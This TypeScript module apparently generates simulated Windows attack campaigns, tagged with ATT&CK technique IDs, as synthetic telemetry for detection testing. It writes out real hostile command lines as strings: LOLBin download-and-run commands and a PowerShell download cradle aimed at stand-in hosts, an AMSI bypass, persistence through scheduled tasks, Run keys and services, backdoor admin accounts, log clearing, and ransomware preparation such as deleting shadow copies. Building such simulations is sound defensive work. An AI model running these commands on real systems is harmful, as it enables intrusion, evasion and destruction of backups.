/**
 * Campaigns at one machine.
 * @module
 */
import {
  addToGroup,
  createAccount,
  directorySession,
  enumerate,
  machineSid,
} from "../actions/directory.ts";
import { networkLogon, type Session } from "../actions/logon.ts";
import { powershell } from "../actions/powershell.ts";
import { connect, injectThread, lookUp, makeFile, run, setValue } from "../actions/process.ts";
import {
  changeAuditPolicy,
  clearLog,
  createTask,
  defenderFinds,
  installService,
  serviceStart,
  serviceState,
  subscribeWmi,
  weakenDefender,
} from "../actions/system.ts";
import type { Account, Host } from "../model.ts";
import { adminOf } from "./credentials.ts";
import type { Attack, Campaign } from "./plan.ts";

/** Programs that start are seen there. */
const seesPrograms = ({ audit }: Host) => audit.process || audit.sysmon;

const SYS = "C:\\Windows\\System32\\";

/** A service, a task, a Run key or a WMI subscription that brings the attacker back. */
function persist(attack: Attack): void {
  const { victim, random } = attack;
  const program = `C:\\Users\\${victim.account.name}\\AppData\\Roaming\\${
    attack.by("OneDriveSync", "svchelper", random.hex(6))
  }.exe`;
  attack.add("T1053.005", attack.moment(), (scene, timeMs) => {
    const session = attack.foothold(timeMs);
    const process = run(scene, timeMs, session, `${SYS}schtasks.exe`, {
      commandLine: `schtasks /create /tn OneDriveSync /tr ${program} /sc onlogon`,
    });
    makeFile(scene, timeMs + 200, process, program);
    createTask(
      scene,
      timeMs + 500,
      session,
      attack.by("\\Microsoft\\Windows\\Sync", "\\OneDriveSync", "\\upd"),
      program,
    );
  });
  if (attack.strength === "quiet") return;
  attack.add("T1547.001", attack.moment(1), (scene, timeMs) => {
    const session = attack.foothold(timeMs);
    const key =
      `HKU\\${victim.account.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Sync`;
    setValue(scene, timeMs, run(scene, timeMs - 90, session, `${SYS}reg.exe`), key, program);
  });
  if (attack.strength === "normal") return;
  attack.add("T1543.003", attack.moment(1), (scene, timeMs) => {
    const admin = { ...attack.foothold(timeMs), account: adminOf(attack) };
    run(scene, timeMs - 300, admin, `${SYS}sc.exe`, {
      commandLine: `sc create upd binPath= ${program}`,
      elevated: true,
    });
    installService(scene, timeMs, admin, { name: "upd", path: program });
    subscribeWmi(scene, timeMs + 60_000, admin.host, 'CommandLineEventConsumer="Updater"');
  });
}

/** A new account that becomes an administrator, of the domain or of the machine. */
function addAdministrator(attack: Attack): void {
  const { scene, victim, random } = attack;
  const by = adminOf(attack);
  const local = attack.strength !== "loud";
  attack.add(local ? "T1136.001" : "T1136.002", attack.moment(), (scene, timeMs) => {
    const name = attack.by("support2", "svc_update", "hax0r");
    const account: Account = {
      name,
      domain: local ? victim.host.name : by.domain,
      sid: local
        ? `${machineSid(victim.host)}-1009`
        : `${scene.estate.domain.sid}-${9000 + random.int(900)}`,
      kind: "user",
      privileged: true,
    };
    const session = local
      ? { ...attack.foothold(timeMs), account: by }
      : directorySession(scene, timeMs, by);
    run(scene, timeMs - 400, session, `${SYS}net.exe`, {
      commandLine: `net user ${name} * /add`,
      elevated: true,
    });
    createAccount(scene, timeMs, session, account);
    const group = local ? "administrators" : "domainAdmins";
    addToGroup(scene, timeMs + attack.by(600_000, 30_000, 2000), session, group, account);
  });
  if (attack.strength === "quiet") return;
  const member = random.pick(scene.estate.people).account;
  attack.add("T1098", attack.moment(1), (scene, timeMs) => {
    addToGroup(scene, timeMs, directorySession(scene, timeMs, by), "domainAdmins", member);
  });
}

/** Audit policy weakened, logs cleared. */
function blind(attack: Attack): void {
  const by = adminOf(attack);
  const at = attack.moment();
  attack.add("T1562.002", at, (scene, timeMs) => {
    const session = { ...attack.foothold(timeMs), account: by };
    run(scene, timeMs, session, `${SYS}auditpol.exe`, {
      commandLine: 'auditpol /set /subcategory:"Logon" /success:disable',
      elevated: true,
    });
    changeAuditPolicy(scene, timeMs + 300, session, "removed");
    if (attack.strength === "loud") weakenDefender(scene, timeMs + 4000, session.host);
  });
  const logs = attack.by(["System"], ["Security"], ["Application", "System", "Security"]) as (
    "Security" | "System" | "Application"
  )[];
  attack.add("T1070.001", at + attack.by(7_200_000, 1_200_000, 30_000), (scene, timeMs) => {
    const session = { ...attack.foothold(timeMs), account: by };
    logs.forEach((log, i) => {
      run(scene, timeMs + i * 900, session, `${SYS}wevtutil.exe`, {
        commandLine: `wevtutil cl ${log}`,
        elevated: true,
      });
      clearLog(scene, timeMs + i * 900 + 200, session, log);
    });
  });
}

/** Programs of Windows that fetch and run something. */
function lolbins(attack: Attack): void {
  const { victim } = attack;
  const name = attack.by("cdn-static-files.net", "update-mirror.top", "45-77-12-9.xyz");
  const out = `C:\\Users\\${victim.account.name}\\AppData\\Local\\Temp\\u.dat`;
  const chain = [
    ["certutil.exe", `certutil -urlcache -split -f https://${name}/u.dat ${out}`, "T1105"],
    ["bitsadmin.exe", `bitsadmin /transfer j https://${name}/p.bin ${out}`, "T1197"],
    ["mshta.exe", `mshta https://${name}/a.hta`, "T1218.005"],
    ["regsvr32.exe", `regsvr32 /s /n /u /i:https://${name}/f.sct scrobj.dll`, "T1218.010"],
    ["rundll32.exe", `rundll32.exe ${out},Start`, "T1218.011"],
    ["msiexec.exe", `msiexec /q /i https://${name}/m.msi`, "T1218.007"],
  ] as const;
  const start = attack.moment();
  chain.slice(0, attack.by(2, 4, 6)).forEach(([file, commandLine, technique], i) => {
    attack.add(technique, start + i * attack.by(1_500_000, 90_000, 4000), (scene, timeMs) => {
      const session = attack.foothold(timeMs);
      const process = run(scene, timeMs, session, SYS + file, { commandLine });
      lookUp(scene, timeMs + 90, process, name);
      connect(scene, timeMs + 160, process, { ip: "203.0.113.77", name }, 443);
      makeFile(scene, timeMs + 900, process, out);
    });
  });
}

const ENCODED =
  "JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAFMAeQBzAHQAZQBtAC4ATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAA7AEkARQBYACAAJABjAC4A";

/** PowerShell with hidden commands, started by a document. */
function encodedPowershell(attack: Attack): void {
  const { victim } = attack;
  for (let i = 0; i < attack.by(1, 3, 8); i++) {
    const at = attack.moment(attack.by(i, Math.floor(i / 2), 0)) + i * 50_000;
    attack.add("T1059.001", at, (scene, timeMs) => {
      const session = attack.foothold(timeMs);
      const word = run(
        scene,
        timeMs - 9000,
        session,
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        {
          commandLine:
            `WINWORD.EXE /n "C:\\Users\\${victim.account.name}\\Downloads\\Invoice.docm"`,
        },
      );
      const process = powershell(scene, timeMs, session, {
        blocks: [
          "$c=New-Object System.Net.WebClient; IEX $c.DownloadString('https://cdn-static-files.net/s')",
          "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
          "function Invoke-Update { param($b) [System.Reflection.Assembly]::Load($b) }",
        ].slice(0, attack.by(1, 2, 3)),
        commandLine: `powershell.exe -NoP -W Hidden -Enc ${ENCODED.repeat(attack.by(1, 2, 5))}`,
        parent: word,
        suspicious: true,
      });
      connect(
        scene,
        timeMs + 2500,
        process,
        { ip: "203.0.113.80", name: "cdn-static-files.net" },
        443,
      );
      if (attack.strength === "loud") {
        injectThread(scene, timeMs + 4000, process, "C:\\Windows\\explorer.exe");
        defenderFinds(
          scene,
          timeMs + 5000,
          session,
          "Trojan:PowerShell/Meterpreter",
          "C:\\Users\\Public\\a.ps1",
        );
      }
    });
  }
}

const DISCOVERY = [
  ["whoami.exe", "whoami /all", "T1033"],
  ["net.exe", 'net group "Domain Admins" /domain', "T1069.002"],
  ["net.exe", "net user /domain", "T1087.002"],
  ["nltest.exe", "nltest /domain_trusts", "T1482"],
  ["ipconfig.exe", "ipconfig /all", "T1016"],
  ["systeminfo.exe", "systeminfo", "T1082"],
  ["tasklist.exe", "tasklist /svc", "T1057"],
  ["net.exe", "net view /all", "T1018"],
  ["quser.exe", "quser", "T1033"],
  ["arp.exe", "arp -a", "T1016"],
  ["netstat.exe", "netstat -ano", "T1049"],
  ["dsquery.exe", "dsquery computer -limit 0", "T1018"],
] as const;

/** The usual questions of somebody who has just come in. */
function discover(attack: Attack): void {
  const start = attack.moment();
  DISCOVERY.slice(0, attack.by(4, 8, 12)).forEach(([file, commandLine, technique], i) => {
    const at = start + i * attack.by(1_800_000, 60_000, 2500) * attack.random.between(0.6, 1.5);
    attack.add(technique, at, (scene, timeMs) => {
      const session = attack.foothold(timeMs);
      const shell = run(scene, timeMs - 300, session, `${SYS}cmd.exe`);
      run(scene, timeMs, session, SYS + file, { commandLine, parent: shell });
      if (technique === "T1069.002" || technique === "T1087.002") {
        enumerate(
          scene,
          timeMs + 200,
          session,
          technique === "T1087.002" ? "user" : "group",
          SYS + file,
        );
      }
    });
  });
}

/** Shadow copies deleted, backups and protection stopped, before anything is encrypted. */
function prepareRansom(attack: Attack): void {
  const by = adminOf(attack);
  const hosts = [
    attack.victim.host,
    ...attack.random.sample(attack.scene.estate.hosts, attack.by(1, 4, 12)),
  ];
  hosts.forEach((host, i) => {
    const at = attack.moment(attack.by(i, 0, 0)) + i * attack.by(0, 300_000, 9000);
    let session: Session = { host, account: by, type: 3, logonId: 0 };
    attack.add("T1490", at, (scene, timeMs) => {
      session = networkLogon(scene, timeMs - 2000, host, by, attack.victim.host, { seconds: 90 });
      const shell = run(scene, timeMs, session, `${SYS}cmd.exe`, { elevated: true });
      const commands = [
        ["vssadmin.exe", "vssadmin delete shadows /all /quiet"],
        ["bcdedit.exe", "bcdedit /set {default} recoveryenabled no"],
        ["wbadmin.exe", "wbadmin delete catalog -quiet"],
        ["net.exe", "net stop VSS /y"],
      ].slice(0, attack.by(1, 3, 4));
      commands.forEach(([file, commandLine], k) => {
        run(scene, timeMs + 900 * (k + 1), session, SYS + file, {
          commandLine,
          parent: shell,
          elevated: true,
        });
      });
    });
    attack.add("T1489", at + 20_000, (scene, timeMs) => {
      for (
        const service of ["Volume Shadow Copy", "SQL Server", "Backup Agent"].slice(
          0,
          attack.by(1, 2, 3),
        )
      ) {
        serviceState(scene, timeMs, host, service, "stopped");
        serviceStart(scene, timeMs + 40, session, service, "auto start", "disabled");
      }
      if (attack.strength === "loud") weakenDefender(scene, timeMs + 900, host, "C:\\");
    });
  });
}

/** Campaigns at one machine. */
export const ENDPOINT_CAMPAIGNS: readonly Campaign[] = [
  {
    name: "persistence",
    title: "A task, Run key or service that brings the attacker back",
    techniques: ["T1053.005", "T1547.001", "T1543.003"],
    build: persist,
  },
  {
    name: "new-administrator",
    title: "A new account made administrator",
    techniques: ["T1136.001", "T1136.002", "T1098"],
    build: addAdministrator,
  },
  {
    name: "log-clearing",
    title: "Audit policy weakened, logs cleared",
    techniques: ["T1562.002", "T1070.001"],
    build: blind,
  },
  {
    name: "lolbin-chain",
    title: "Windows' own programs fetch and run",
    techniques: ["T1105", "T1218.005"],
    needs: seesPrograms,
    build: lolbins,
  },
  {
    name: "encoded-powershell",
    title: "Hidden PowerShell from a document",
    techniques: ["T1059.001"],
    build: encodedPowershell,
  },
  {
    name: "discovery",
    title: "Living-off-the-land discovery",
    techniques: ["T1087.002", "T1018", "T1082"],
    needs: seesPrograms,
    build: discover,
  },
  {
    name: "ransomware-preparation",
    title: "Shadow copies and backups removed on many machines",
    techniques: ["T1490", "T1489"],
    build: prepareRansom,
  },
];
